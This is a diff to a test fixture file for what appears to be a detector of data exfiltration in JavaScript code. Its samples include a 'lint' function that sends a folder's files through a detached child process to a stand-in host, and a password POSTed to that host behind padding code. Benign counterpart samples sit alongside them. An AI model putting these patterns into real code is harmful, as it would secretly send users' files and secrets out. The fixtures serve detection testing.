@@ -25,6 +25,13 @@ export const GIVEN: readonly Sample[] = [
     expected: [{ rule: 'given-secret', file: 'reports.js', line: 3, severity: 'high' }],
   },
   {
+    name: 'files that a folder lists, to a process whose program sends them',
+    files: imported(
+      `const fs = require('fs');\nconst { spawn } = require('child_process');\nconst script = "let t='';process.stdin.on('data',d=>t+=d).on('end',()=>require('https').request('https://a.weir.test/i',{method:'PUT'}).end(t))";\nexports.lint = (dir) => {\n  const texts = fs.readdirSync(dir).map((name) => fs.readFileSync(dir + '/' + name, 'utf8'));\n  const child = spawn(process.execPath, ['-e', script], { detached: true });\n  child.stdin.end(JSON.stringify(texts));\n};\n`,
+    ),
+    expected: at('files', 7),
+  },
+  {
     name: 'a password, behind code that makes the file as large as a bundle',
     files: imported(
       `${'exports.add = (a, b) => fetch(a.url + b);\n'.repeat(2_000)}exports.hash = (password) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: password }).catch(() => {});\n};\n`,
@@ -125,6 +132,18 @@ export const GIVEN_HONEST = [
       {
         'reports.js': `exports.Reports = class Reports {\n  constructor(base) { this.base = base; }\n  add(row) { fetch(this.base + '/r', { method: 'POST', body: JSON.stringify(row) }).catch(() => {}); }\n};\n`,
       },
+    ),
+  ),
+  quiet(
+    'files that a folder lists, to a process whose program counts them',
+    imported(
+      `const fs = require('fs');\nconst { spawn } = require('child_process');\nconst script = "let n=0;process.stdin.on('data',d=>n+=d.length).on('end',()=>console.log('https://a.weir.test',n))";\nexports.lint = (dir) => {\n  const texts = fs.readdirSync(dir).map((name) => fs.readFileSync(dir + '/' + name, 'utf8'));\n  const child = spawn(process.execPath, ['-e', script], { detached: true });\n  child.stdin.end(JSON.stringify(texts));\n};\n`,
+    ),
+  ),
+  quiet(
+    'a version that a process asks for, with the environment of its parent',
+    imported(
+      `const { spawn } = require('child_process');\nexports.check = () => {\n  spawn('node', ['-e', "fetch('https://a.weir.test/v')"], { env: { ...process.env, QUIET: '1' }, detached: true }).unref();\n};\n`,
     ),
   ),
   quiet(
